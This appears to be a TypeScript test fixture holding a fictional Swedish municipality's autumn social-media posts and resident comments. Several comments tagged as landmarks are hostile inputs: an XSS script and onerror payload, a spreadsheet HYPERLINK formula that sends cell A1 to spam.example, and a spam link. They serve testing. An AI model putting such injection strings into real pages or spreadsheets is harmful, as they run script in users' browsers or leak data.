import { says, type WrittenPost } from '../written.js';
import { on, yearBefore } from '../when.js';

/** Kommunstyrelsen, September to November. */
export const autumnPosts: readonly WrittenPost[] = [
  {
    when: on('09-09 10:00'),
    text: 'Farthindren på Skolgatan är på plats. Nu är det 30 som gäller, dygnet runt.',
    favourites: 44,
    comments: [
      says('rektorns_granne', 7, 'TACK. Det tog tre år men tack.'),
      says('roland_s', 50, 'Mer hinder för oss som jobbar. Stolpskott i det där huset.'),
      {
        ...says('h4xx0r', 51, '<script>alert("norrsunda")</script> <img src=x onerror=alert(1)> & sen då?'),
        landmark: 'hostile-markup',
      },
      {
        ...says('arg_skattebetalare', 90, '=HYPERLINK("https://spam.example/?x="&A1;"Klicka för ersättning")'),
        landmark: 'formula',
      },
    ],
  },
  {
    when: on('09-25 13:20'),
    text: 'Kommunfullmäktige sammanträder på måndag kl. 18 i Folkets hus. Öppet för alla, och du kan ställa frågor under allmänhetens frågestund. Sändningen textas i efterhand.',
    favourites: 6,
    comments: [
      says(
        'journalisten',
        30,
        'Finns handlingarna ute?',
        says('norrsunda', 15, 'Ja, sedan i går: https://www.norrsunda.example/kallelser'),
      ),
      says('villaagaren', 75, 'Hur lång får frågan vara?', says('norrsunda', 40, 'Högst två minuter.')),
    ],
  },
  {
    when: on('10-07 08:30'),
    text: 'I höst byter vi 1 100 gatlyktor till LED. Vi börjar i Björkhagen. Det kan vara mörkt på din gata en natt eller två.',
    favourites: 28,
    pictures: [{ scene: 'night', shows: 'En montör i skylift byter armatur i skymningen.' }],
    comments: [
      {
        ...says(
          'hyresgasten',
          130,
          'Gatlyktan utanför Åkervägen 14 har varit släckt sedan i tisdags, och den vid busshållplatsen blinkar hela natten. Det är kolsvart på övergångsstället. Kan ni skicka någon?',
          says(
            'norrsunda',
            25,
            'Tack för anmälan! Åkervägen ingår inte i bytet, så det är ett fel. Vi har skapat ett ärende och lagar den i morgon.',
          ),
          says('hyresgasten', 1700, 'Nu lyser den igen 👍'),
        ),
        landmark: 'fault-report',
        pictures: [{ scene: 'night', shows: null }],
      },
      says('fagelskadaren', 60, 'Tänk på ljusföroreningen vid Lillsjön. Varmt ljus och avskärmning, tack.'),
    ],
  },
  {
    when: on('10-21 11:15'),
    text: 'Vill du bli kontaktperson eller familjehem? Kom på informationsträff på biblioteket torsdag kl. 17.30. Ingen anmälan behövs.',
    favourites: 37,
    comments: [
      says('gunnel_b', 200, 'Jag har varit kontaktperson i nio år. Det bästa jag har gjort.'),
      {
        ...says(
          'crypto_vinst_777',
          1,
          'TJÄNA 9 000 KR OM DAGEN hemifrån!!! Gratis kurs → https://spam.example/vinst?ref=norrsunda',
        ),
        landmark: 'spam',
      },
    ],
  },
  {
    when: on('11-04 09:45'),
    text: 'Älgjakten är i full gång. Använd reflexväst i skogen, och håll hunden kopplad. Eftersöksgruppen når du genom 112.',
    favourites: 13,
    comments: [
      says('elin17', 60, 'såg en älg utanför skolan i morse 🫎'),
      {
        ...says(
          'aino_v',
          88,
          'Onko teillä karttaa metsästysalueista?',
          says('norrsunda', 300, 'Hei Aino! Kartta on jaktvårdskretsen sivuilla. Ruotsiksi, valitettavasti.'),
        ),
        language: 'fi',
      },
    ],
  },
  {
    when: yearBefore('09-18 15:30'),
    text: 'Nya öppettider på återvinningscentralen: tisdag och torsdag 12–19, lördag 9–15. Ta med körkort eller annan legitimation.',
    favourites: 11,
    comments: [
      says(
        'snickar_anders',
        20,
        'Får företag lämna gips?',
        says('norrsunda', 60, 'Ja, mot avgift. Prislistan finns vid infarten.'),
      ),
      says(
        'per_olof',
        90,
        'Och när ska vi som inte har bil lämna?',
        says('norrsunda', 120, 'Den mobila återvinningen kommer till Björkhagen första onsdagen i månaden, kl. 16–18.'),
      ),
    ],
  },
  {
    when: yearBefore('10-30 10:10'),
    text: 'Höstlov! Spökvandring i hembygdsgården på torsdag kl. 18 (från 7 år), teckningsskola på biblioteket och fri entré på badhuset 👻',
    favourites: 48,
    comments: [
      says('hembygdarn', 10, 'Vi lovar att skrämmas lagom.'),
      says('majasund', 22, 'Vi kommer!! 👻'),
      says(
        'smabarnspappa',
        35,
        'Är det för läskigt för en sexåring?',
        says('hembygdarn', 18, 'Kom kl. 17 i stället, då går vi den snälla rundan.'),
      ),
    ],
  },
  {
    when: yearBefore('11-20 07:20'),
    text: 'Bron över Norrån stängs för renovering den 2 december och beräknas öppna igen om två år. Gående och cyklister tar sig fram på en tillfällig bro. Bilar leds om över Björkhagen.',
    favourites: 8,
    comments: [
      says(
        'kvarnbackarn',
        9,
        'TVÅ ÅR??',
        says('norrsunda', 55, 'Ja, brofästena måste bytas helt. Vi vet att det är besvärligt.'),
        says('kvarnbackarn', 14, 'Besvärligt är bara förnamnet. Det blir två mil extra om dagen för mig.'),
      ),
      says(
        'handlarn_kyrkbyn',
        40,
        'Vilka leveranstider gäller för tung trafik på omledningen?',
        says('norrsunda', 240, 'Tung trafik får köra kl. 6–22. Dispens söker ni hos gatuenheten.'),
      ),
      says('lisa_cyklar', 60, 'Bra att cykelbron är klar FÖRST. Så ska det gå till.'),
    ],
  },
];
